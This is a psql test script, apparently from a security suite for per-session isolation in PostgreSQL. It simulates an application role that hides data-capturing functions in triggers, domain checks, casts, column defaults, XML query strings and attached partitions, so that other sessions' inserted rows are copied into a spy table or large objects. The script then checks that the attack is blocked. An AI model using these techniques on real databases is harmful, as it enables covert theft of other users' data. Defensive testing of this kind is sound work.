-- vector: code of the owner's that is planted where it does not look like code: in the condition of a harmless trigger, in a cast, in a query as text, in a partition that is attached
-- class: shadow
-- actor: attacker
-- precondition: the application's role owns the table
-- expected with sessmem: BLOCKED
-- stopped by: refused DDL: whatever runs what is not a superuser's in the sessions of others
-- severity: critical
\i :adapter
\ir _sane.sql
\ir _app_owns.sql
create table plugin.spy(how text, what text);
create function plugin.keep(how text, what text) returns boolean language plpgsql as $$ begin insert into plugin.spy values (how, what); return true; end $$;
create function plugin.keep_quietly(how text, what text) returns boolean immutable language plpgsql as $$ begin perform lo_from_bytea(0, convert_to(how || ': ' || what, 'utf8')); return true; end $$;
create function plugin.keep_row() returns trigger language plpgsql as $$ begin perform plugin.keep(tg_name, new.content); return new; end $$;
create function plugin.keep_default(how text) returns text language plpgsql as $$ begin insert into plugin.spy values (how, 'CANARY-B: ran'); return 'x'; end $$;
create domain plugin.kept as text constraint c check (plugin.keep_default('a cast') is not null);
create domain plugin.kept_of_json as text constraint c check (plugin.keep_default('json_populate_record') is not null);
create domain plugin.kept_in_array as text constraint c check (plugin.keep_default('array of a domain') is not null);
create domain plugin.kept_in_row as text constraint c check (plugin.keep_default('row with a domain') is not null);
create domain plugin.kept_by_check as text constraint c check (plugin.keep('CHECK, a cast', value));
create type plugin.in_row as (d plugin.kept_in_row);
create type plugin.of_json as (d plugin.kept_of_json);
create view plugin.query as select plugin.keep_default('CHECK, table_to_xml');
create table public.parts(id bigint not null, session_id text not null, content text) partition by list (content);
create table public.part1 partition of public.parts for values in ('nothing');
create domain plugin.plain as text;
create domain plugin.inside as text;
create type plugin.outside as (d plugin.inside);
create table public.typed(session_id text not null, content text, d plugin.plain, c plugin.outside);
grant select, insert on public.parts, public.typed to :app;
\c - :su
select t_protect('public.parts');
select t_protect('public.typed');
\c - :app
-- each in a transaction of its own
create trigger by_when before insert on public.messages for each row when (plugin.keep('WHEN', new.content) and false) execute function suppress_redundant_updates_trigger();
alter table public.messages alter role set default (query_to_xml('select plugin.keep_default(''query_to_xml'')', true, true, '')::text);
alter table public.messages add column x1 text default ('x'::plugin.kept)::text;
alter table public.messages add column x2 plugin.kept_in_array[] default '{x}'::text[];
alter table public.messages add column x3 plugin.in_row default row('x');
alter table public.messages add column x4 text default (json_populate_record(null::plugin.of_json, '{"d": "x"}')).d::text;
alter table public.messages add constraint c1 check (table_to_xml('plugin.query', true, true, '') is not null) not valid;
alter table public.messages add constraint c2 check ((content::plugin.kept_by_check) is not null) not valid;
alter domain plugin.plain set default plugin.keep_default('ALTER DOMAIN SET DEFAULT');
alter domain plugin.inside add constraint c check (plugin.keep('ALTER DOMAIN in a row', value)) not valid;
create table public.part2(like public.parts including all);
create trigger attached_trigger before insert on public.part2 for each row execute function plugin.keep_row();
alter table public.parts attach partition public.part2 for values in ('CANARY-B-trigger');
create table public.part3(like public.parts including all, check (plugin.keep('attached CHECK', content)));
alter table public.parts attach partition public.part3 for values in ('CANARY-B-check');
create table public.part4(like public.parts including all);
create index on public.part4 (plugin.keep_quietly('attached index', content));
alter table public.parts attach partition public.part4 for values in ('CANARY-B-index');
create table public.part5 partition of public.parts (check (plugin.keep('CHECK of a new partition', content))) for values in ('CANARY-B-new');
truncate plugin.spy; select lo_unlink(oid) from pg_largeobject_metadata;
\! psql -XAtq -U $ATK_APP -c "begin; select t_bind('sess-B'); insert into public.messages(session_id,content) values ('sess-B','CANARY-B-planted'); commit" >/dev/null 2>&1
\! psql -XAtq -U $ATK_APP -c "begin; select t_bind('sess-B'); insert into public.typed(session_id,content,c) values ('sess-B','CANARY-B-planted',row('CANARY-B')); commit" >/dev/null 2>&1
\! psql -XAtq -U $ATK_APP -c "begin; select t_bind('sess-B'); insert into public.parts(id,session_id,content) values (2,'sess-B','CANARY-B-trigger'); commit" >/dev/null 2>&1
\! psql -XAtq -U $ATK_APP -c "begin; select t_bind('sess-B'); insert into public.parts(id,session_id,content) values (3,'sess-B','CANARY-B-check'); commit" >/dev/null 2>&1
\! psql -XAtq -U $ATK_APP -c "begin; select t_bind('sess-B'); insert into public.parts(id,session_id,content) values (4,'sess-B','CANARY-B-index'); commit" >/dev/null 2>&1
\! psql -XAtq -U $ATK_APP -c "begin; select t_bind('sess-B'); insert into public.parts(id,session_id,content) values (5,'sess-B','CANARY-B-new'); commit" >/dev/null 2>&1
\set via ''
select coalesce(string_agg(distinct how, ', '), '') as via from (
  select how from plugin.spy where what like '%CANARY-B%'
  union select split_part(convert_from(lo_get(oid), 'utf8'), ':', 1) from pg_largeobject_metadata) as s \gset
\c - :su
select not exists (select from public.messages where content = 'CANARY-B-planted') as unwritten \gset
\if :unwritten
\set other 'the victim could not write'
\endif
select :'via' <> '' as leak \gset
\ir _verdict.sql
